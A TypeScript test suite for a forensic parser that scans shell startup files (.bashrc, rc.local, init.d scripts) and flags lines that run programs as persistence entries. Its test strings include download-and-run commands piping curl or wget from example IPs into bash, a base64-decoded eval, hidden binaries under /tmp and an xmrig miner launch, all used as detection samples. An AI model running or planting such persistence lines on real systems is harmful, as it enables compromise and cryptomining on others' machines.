import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Issue } from '../../model/issue.js';
import { cutCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
import { isBinaryLine } from './file.js';
import { type ShellLine, ShellLineReader, shellRc } from './shell-rc.js';

const MTIME = Date.UTC(2024, 0, 1);
const FIXTURES = 'test/fixtures/shell-rc';
const rc = (path: string) => fileInput(`${FIXTURES}/${path}`, { relPath: path, mtimeMs: MTIME, hostHint: 'web-01' });
const good = rc('root/.bashrc');
const bad = rc('home/bob/.profile');

runSourceContract({
  source: shellRc,
  good,
  bad,
  // the file copied while an entry was written: it ends inside the quoted URL
  cut: cutCase(good, 'curl -fsSL "http://203.0.113.7/cutmin', 'cutmin'),
  skip: {
    oversized:
      'the contract builds its input without mtimeMs, and a state source without a time reads nothing (FILE_NO_MTIME); rerun below with a time',
  },
});

// The contract's memory inputs carry no mtime; these rerun its bad-input cases with one, so the parser is reached.
const withTime = { relPath: 'root/.bashrc', mtimeMs: MTIME };

test('shell-rc: an oversized line is reported and the next good line is read (with an mtime)', async () => {
  const big = `${'A'.repeat(TEST_CONTEXT.maxLineBytes * 3)}\n${good.head.toString('utf8')}`;
  const { events, issues } = await readAll(shellRc, memoryInput('big.log', big, withTime));
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [[1, 'LINE_TOO_LONG']],
  );
  assert.equal(events.length, 1);
});

test('shell-rc: binary garbage is reported by line, a few at a time, never thrown (with an mtime)', async () => {
  let seed = 5;
  const garbage = Buffer.alloc(100_000);
  for (let i = 0; i < garbage.length; i++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    garbage[i] = seed >>> 16; // the high bits: the low byte of this generator repeats every 256
  }
  const { issues } = await readAll(shellRc, memoryInput('garbage.bin', garbage, withTime));
  const binary = issues.filter((i) => i.code === 'SHELL_RC_BINARY');
  assert.ok(binary.length === 6, `binary issues: ${binary.length}`);
  assert.match(binary[5].reason, /more binary lines/);
});

test('shell-rc: a file cut inside a quote reports the cut (with an mtime)', async () => {
  const text = good.head.toString('utf8');
  const cut = text.slice(0, text.indexOf('notify-send --urgency'));
  const { issues } = await readAll(shellRc, memoryInput('cut.log', cut, withTime));
  assert.deepEqual(
    issues.map((i) => i.code),
    ['SHELL_RC_UNTERMINATED'],
  );
});

test('shell-rc: a file without an mtime is reported once and not read', async () => {
  const { events, issues } = await readAll(shellRc, memoryInput('.bashrc', good.head, { relPath: 'root/.bashrc' }));
  assert.deepEqual(events, []);
  assert.deepEqual(
    issues.map((i) => i.code),
    ['FILE_NO_MTIME'],
  );
});

test('a stock Debian-style .bashrc yields no entries', async () => {
  const { events, issues } = await readAll(shellRc, rc('home/alice/.bashrc'));
  assert.deepEqual(issues, []);
  assert.deepEqual(events, []);
});

test('the same .bashrc with a download-and-run line appended yields that line alone', async () => {
  const { events } = await readAll(shellRc, good);
  assert.equal(events.length, 1);
  const [e] = events;
  const line =
    '(curl -fsSL http://198.51.100.23/x.sh || wget -q -O- http://198.51.100.23/x.sh) | bash >/dev/null 2>&1 &';
  assert.equal(e.coalmine.ref.line, 98);
  assert.equal(e.file?.line, line);
  assert.equal(e.file?.path, '/root/.bashrc');
  assert.equal(e.process?.command_line, line);
  assert.equal(e.process?.user?.name, 'root');
  assert.equal(e.event.dataset, 'shell-rc.entry');
  assert.deepEqual(e.coalmine.persistence, { mechanism: 'rc' });
  assert.deepEqual(e.original, { command: line });
});

test('rc.local runs as root at boot and keeps its tuning and hidden binary lines', async () => {
  const { events } = await readAll(shellRc, rc('etc/rc.local'));
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.coalmine.persistence, e.process?.user?.name]),
    [
      [9, { mechanism: 'rc', target: '/tmp/.ICE-unix/.x/kthreaddi' }, 'root'],
      [10, { mechanism: 'rc' }, 'root'],
    ],
  );
});

test('an init.d script is mechanism init, and its case labels and log helpers are not entries', async () => {
  const { events, issues } = await readAll(shellRc, rc('etc/init.d/netdns'));
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.coalmine.persistence?.mechanism]),
    [
      [20, 'init'],
      [24, 'init'],
    ],
  );
});

test('a NUL-laden line is SHELL_RC_BINARY and the lines after it are still read', async () => {
  const { events, issues } = await readAll(shellRc, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [[14, 'SHELL_RC_BINARY']],
  );
  assert.equal(events.length, 1);
  assert.equal(events[0].process?.user?.name, 'bob');
  assert.equal(events[0].coalmine.ref.line, 15);
});

/** Feeds text to a fresh reader and lists the logical lines that run something, as [line, text]. */
function running(text: string): { runs: [number, string][]; issues: Issue[] } {
  const reader = new ShellLineReader('t', 'SHELL_RC');
  const issues: Issue[] = [];
  const out: ShellLine[] = [];
  text.split('\n').forEach((line, i) => {
    const logical = reader.push(i + 1, line, issues);
    if (logical) out.push(logical);
  });
  const last = reader.end(issues);
  if (last) out.push(last);
  return { runs: out.filter((l) => l.runs).map((l) => [l.lineNo, l.text]), issues };
}

test('configuration lines run nothing', () => {
  const lines = [
    "alias ll='ls -alF'",
    'export EDITOR=vim',
    'HISTSIZE=1000',
    'PATH="$HOME/bin:$PATH"',
    'shopt -s histappend',
    'set -o vi',
    'umask 022',
    'if [ -f ~/.bash_aliases ]; then',
    'fi',
    'done',
    'esac',
    '{',
    '}',
    '[ -f /etc/bash_completion ] && . /etc/bash_completion',
    'for i in /etc/profile.d/*.sh; do . "$i"; done',
    '[ -z "$PS1" ] && return',
    'USER="`id -un`"',
    'command -v pyenv >/dev/null',
    'mesg n 2> /dev/null || true',
    'HOSTNAME=`/usr/bin/hostname 2>/dev/null`',
    'echo "welcome"; printf "%s\\n" "$PWD"',
    'plugins=(git docker kubectl)',
    'HISTIGNORE+=(ls bg fg)',
  ];
  for (const line of lines) assert.deepEqual(running(line).runs, [], line);
});

test('lines that start programs run something', () => {
  const lines = [
    '/tmp/.ICE-unix/.x/kthreaddi -B >/dev/null 2>&1',
    'curl -s http://203.0.113.5/a | sh',
    '. /tmp/.cache/.x',
    'source ~/.config/.hid/env.sh',
    'eval "$(echo Y3VybCAtcyBodHRwOi8v | base64 -d)"',
    'x=$(wget -qO- http://203.0.113.5/b | bash)',
    'nohup $HOME/.local/.x/dbus >/dev/null 2>&1 &',
    'setsid ./xmrig -o pool.minexmr.com:4444 &',
    '[ -x /opt/.x/y ] && /opt/.x/y',
    'source <(curl -s http://203.0.113.5/c)',
    'sysctl -w vm.nr_hugepages=1280',
    'if ! pgrep kdevtmpfsi >/dev/null; then',
    '/tmp/id -u',
  ];
  for (const line of lines) assert.equal(running(line).runs.length, 1, line);
});

test('a quote spanning lines is one logical line at its first line number', () => {
  assert.deepEqual(running("PROMPT_COMMAND='history -a\nhistory -n'\nls").runs, []);
  assert.deepEqual(running("bash -c '\n  curl -s http://x/y | sh\n'").runs, [
    [1, "bash -c '\n  curl -s http://x/y | sh\n'"],
  ]);
});

test('commands finished on a later line of a logical line are not carried into the next one', () => {
  assert.deepEqual(running("curl x | sh; X='\nabc'; /tmp/x\numask 022").runs, [[1, "curl x | sh; X='\nabc'; /tmp/x"]]);
});

test('an array literal spanning lines holds values, not commands', () => {
  assert.deepEqual(running('plugins=(\n  git\n  docker\n)\nsource $ZSH/oh-my-zsh.sh').runs, []);
  assert.deepEqual(running('arr=($(curl -s http://x/list))').runs, [[1, 'arr=($(curl -s http://x/list))']]);
});

test('a backslash continuation joins the lines', () => {
  assert.deepEqual(running('curl -s http://x/y \\\n  | sh').runs, [[1, 'curl -s http://x/y \\\n  | sh']]);
});

test('here-document bodies are data, but travel with a command that runs them', () => {
  assert.deepEqual(running('cat <<EOF\ncurl http://x | sh\nEOF\numask 022').runs, []);
  assert.deepEqual(running("bash <<-'X'\n\tcurl http://x | sh\n\tX\numask 022").runs, [
    [1, "bash <<-'X'\n\tcurl http://x | sh\n\tX"],
  ]);
});

test('calls to functions defined in the file are not programs', () => {
  const text = 'pathmunge () {\n    PATH=$1:$PATH\n}\npathmunge /usr/sbin\nfunction greet {\n  echo hi\n}\ngreet';
  assert.deepEqual(running(text).runs, []);
});

test('case patterns are not commands, the commands after them are', () => {
  assert.deepEqual(running('case "$TERM" in\nxterm*|rxvt*) color=yes;;\n*) ;;\nesac').runs, []);
  assert.deepEqual(running('case $1 in\n  start) /usr/bin/.x/run ;;\nesac').runs, [[2, 'start) /usr/bin/.x/run ;;']]);
});

test('a quote or substitution open at the end of the file is reported and not read as a command (bash refuses it)', () => {
  for (const text of [
    "echo 'unclosed\nmore",
    '/tmp/.x/run "--pool',
    'nohup /tmp/.x/run $(cat /tmp/.x/cf',
    'curl -s http://203.0.113.7/x.sh | sh -c "$(cat',
  ]) {
    const { runs, issues } = running(text);
    assert.deepEqual(
      issues.map((i) => [i.line, i.code]),
      [[1, 'SHELL_RC_UNTERMINATED']],
      text,
    );
    assert.deepEqual(runs, [], text);
  }
});

test('a here-document or continuation the end of the file closes is reported and still read (bash runs it)', () => {
  const doc = running('bash <<EOF\n/tmp/.x/run --donate-level 1');
  assert.deepEqual(
    doc.issues.map((i) => [i.line, i.code]),
    [[1, 'SHELL_RC_UNTERMINATED']],
  );
  assert.equal(doc.runs.length, 1);
  const cont = running('/tmp/.x/run \\');
  assert.deepEqual(
    cont.issues.map((i) => [i.line, i.code]),
    [[1, 'SHELL_RC_UNTERMINATED']],
  );
  assert.deepEqual(
    cont.runs.map(([line]) => line),
    [1],
  );
});

test('a quote left open for too long is cut and reading goes on as code', () => {
  const text = `X='\n${'filler\n'.repeat(70)}/tmp/.x/run`;
  const { runs, issues } = running(text);
  assert.equal(issues[0]?.code, 'SHELL_RC_UNTERMINATED');
  assert.ok(runs.some(([, t]) => t === '/tmp/.x/run'));
});

test('hostile nesting and punctuation are bounded and linear', () => {
  const reader = new ShellLineReader('t', 'SHELL_RC');
  const issues: Issue[] = [];
  for (const line of [
    '$('.repeat(30_000),
    '('.repeat(60_000),
    '${'.repeat(30_000),
    '\'"`'.repeat(20_000),
    '>'.repeat(60_000),
  ])
    reader.push(1, line, issues);
  reader.end(issues);
  assert.ok(issues.length >= 1);
});

test('NUL bytes or many replacement characters make a line binary; a stray accent does not', () => {
  assert.ok(isBinaryLine('abc\u0000def'));
  assert.ok(isBinaryLine('\ufffd\ufffd\ufffdELF\ufffd'));
  assert.ok(!isBinaryLine('echo "caf\ufffd ouvert"'));
  assert.ok(!isBinaryLine('\tPS1="\\u@\\h"'));
});

test('sniffs rc files by location, and by name when given alone', () => {
  const score = (input: { name: string; relPath?: string }) => shellRc.sniff('', input);
  for (const relPath of [
    'root/.bashrc',
    'home/alice/.bash_profile',
    'home/alice/.zshrc',
    'etc/profile',
    'etc/profile.d/proxy.sh',
    'etc/bash.bashrc',
    'etc/rc.local',
    'etc/rc.d/rc.local',
    'etc/init.d/netdns',
  ])
    assert.ok(score({ name: 'x', relPath }) > 0, relPath);
  assert.equal(score({ name: 'x', relPath: 'tmp/.bashrc' }), 0);
  assert.equal(score({ name: 'x', relPath: 'etc/profile.d/README' }), 0);
  assert.ok(score({ name: 'evidence/.bashrc' }) > 0);
  assert.ok(score({ name: 'evidence/.bashrc' }) < score({ name: 'x', relPath: 'root/.bashrc' }));
});

test('a home directory given as an argument: its rc files are its owner’s, by their absolute path', async () => {
  const local = (localPath: string, relPath: string) => shellRc.sniff('', { name: 'x', relPath, localPath });
  assert.equal(shellRc.sniff('', { name: 'x', relPath: '.bashrc' }), 0);
  assert.ok(local('/root/.bashrc', '.bashrc') > 0);
  assert.ok(local('/etc/rc.local', 'rc.local') > 0, '/etc given');
  assert.equal(local('/home/alice/backup/.bashrc', 'backup/.bashrc'), 0, 'a copy further down runs nowhere');
  const input = memoryInput('alice/.bashrc', 'curl -s http://203.0.113.7/x | sh\n', {
    relPath: '.bashrc',
    localPath: '/home/alice/.bashrc',
    mtimeMs: MTIME,
  });
  const { events } = await readAll(shellRc, input);
  assert.equal(events[0].process?.user?.name, 'alice');
  assert.equal(events[0].file?.path, '/home/alice/.bashrc');
});
